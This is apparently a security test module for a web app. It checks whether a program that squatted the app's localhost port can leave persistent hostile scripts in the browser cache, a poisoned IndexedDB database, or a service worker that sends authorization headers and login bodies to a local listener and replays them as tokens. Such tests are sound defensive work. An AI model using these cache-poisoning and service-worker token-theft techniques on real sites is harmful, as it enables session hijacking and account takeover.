// What another program left in the browser's stores while it had the port: files that the browser kept under our names,
// databases, and the storage of an earlier login.

import { call, identity } from "../as-browser.mjs";
import { Squatter } from "./squatter.mjs";
import { attempt, gains, reload } from "./stage.mjs";

const EVIL = 'document.documentElement.dataset.held = "yes";';
const FOREVER = { "Cache-Control": "public, max-age=31536000, immutable" };

export async function stored(stage) {
  console.log("What another program left in the browser's stores:");
  await attempt("a script of its own in the page's cache, under our script's name", () => runs(stage, inCache));
  await attempt("a script of its own that the browser keeps for a year, under our script's name", () =>
    runs(stage, inBrowser),
  );
  await attempt("the same for the script of the theme", () => runs(stage, inBrowser, "/theme.js"));
  await attempt("a database of our name that no key can be kept in", () => blocked(stage));
  await attempt("logged out everywhere, the old key or token again", () => old(stage));
  await attempt("the worker that stays, after a log-out everywhere and a new login", () => n10(stage));
}

/** Our script as the page names it. */
const scriptOf = (page) => page.locator("script[type=module]").getAttribute("src");

async function runs(stage, leave, name) {
  const tab = await stage.person();
  const script = name ?? (await scriptOf(tab));
  const page = `<!doctype html><title>Held</title><body><script src="${script}"></script>`;
  const answer = ({ path }) => {
    if (path === script) return { headers: { "Content-Type": "text/javascript", ...FOREVER }, body: EVIL };
    return path.startsWith("/v1/") ? { status: 503, body: "{}" } : { body: page };
  };
  await stage.squatted(answer, async () => {
    await tab.goto(`${stage.url}/`).catch(() => undefined);
    await tab.waitForFunction(() => document.title === "Held");
    await tab.evaluate(leave, [script, EVIL]);
  });
  // Not by loading again: that asks for everything anew.
  await tab.goto(`${stage.url}/you`).catch(() => undefined);
  await tab.waitForTimeout(1_500);
  const isHeld = () => tab.evaluate(() => document.documentElement.dataset.held === "yes");
  if (await isHeld()) return "it ran";
  await reload(tab);
  if (await isHeld()) return "it ran when the page was loaded again";
  await stage.login(tab);
  return (await isHeld()) && "it ran after a new login";
}

async function inCache([script, evil]) {
  for (const name of [...(await caches.keys()), "shell"]) {
    const cache = await caches.open(name);
    await cache.put(script, new Response(evil, { headers: { "Content-Type": "text/javascript" } }));
  }
}

/** Without our worker, so that the browser alone decides. */
async function inBrowser([script]) {
  for (const one of await navigator.serviceWorker.getRegistrations()) await one.unregister();
  await fetch(script, { cache: "reload" });
}

async function blocked(stage) {
  const tab = await stage.person();
  await stage.squatted(
    () => null,
    async () => {
      await tab.goto(`${stage.url}/`).catch(() => undefined);
      await tab.waitForFunction(() => document.title === "Held");
      await tab.evaluate(async () => {
        const done = (request) => new Promise((then) => Object.assign(request, { onsuccess: then, onerror: then }));
        await done(indexedDB.deleteDatabase("holdstead"));
        const opening = indexedDB.open("holdstead", 99);
        await done(opening);
        opening.result.close();
      });
    },
  );
  await stage.login(tab);
  return (await call(tab, "GET", "/v1/me")).status !== 200 && "the person cannot log in";
}

async function old(stage) {
  const tab = await stage.person();
  const before = await identity(tab);
  await stage.loggedOutEverywhere();
  await tab.getByText("This page needs your link").waitFor();
  const refused = await call(tab, "GET", "/v1/me");
  if (refused.status === 200) return "it is still good";
  const other = await stage.person();
  if ((await identity(other)) === before) return "a new login has the old key";
  return gains(stage.url, { method: "GET", path: "/v1/me", headers: { authorization: `Bearer ${before}` } });
}

/** As it was found: a worker sees the new login, and what it sees opens the gateway. */
async function n10(stage) {
  const listener = new Squatter(() => null);
  const port = await listener.listen();
  const tab = await stage.person();
  const tell = `(what) => fetch("http://127.0.0.1:${port}/?" + encodeURIComponent(what), { mode: "no-cors" })`;
  const script = `
    const tell = ${tell};
    self.addEventListener("install", () => self.skipWaiting());
    self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
    self.addEventListener("fetch", (event) => {
      const { request } = event;
      tell(request.headers.get("authorization") + " " + request.url);
      if (new URL(request.url).pathname !== "/v1/login") return;
      event.respondWith(fetch(request.clone()).then(async (answer) => {
        tell((await request.text()) + (await answer.clone().text()));
        return answer;
      }));
    });`;
  const page = `<!doctype html><title>Held</title><script>navigator.serviceWorker.register("/two.js", { scope: "/" })</script>`;
  const answer = ({ path }) =>
    path === "/two.js" ? { headers: { "Content-Type": "text/javascript" }, body: script } : { body: page };
  await stage.squatted(answer, async () => {
    await tab.goto(`${stage.url}/`).catch(() => undefined);
    await reload(tab);
  });
  await stage.loggedOutEverywhere();
  listener.seen.length = 0;
  await stage.login(tab);
  await call(tab, "GET", "/v1/me");
  const told = listener.seen.map(({ path }) => decodeURIComponent(path)).join("\n");
  await listener.close();
  for (const secret of new Set(told.match(/[\w.-]{20,}/g) ?? [])) {
    const headers = { authorization: `Bearer ${secret}`, "content-type": "application/json" };
    const body = JSON.stringify({ code: secret });
    const gained =
      (await gains(stage.url, { method: "GET", path: "/v1/me", headers })) ??
      (await gains(stage.url, {
        method: "POST",
        path: "/v1/login",
        headers: { "content-type": "application/json" },
        body,
      }));
    if (gained) return gained;
  }
  return told.includes("/v1/me") && "it saw a request after the login";
}
